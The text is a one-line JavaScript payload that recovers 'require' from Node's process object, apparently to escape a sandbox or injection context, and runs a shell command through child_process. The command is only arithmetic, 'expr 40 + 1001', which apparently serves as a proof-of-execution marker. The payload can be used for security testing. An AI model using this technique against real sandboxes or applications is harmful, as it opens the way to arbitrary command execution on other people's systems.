Object.values(process).find(x=>x&&x.require&&x.paths).require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
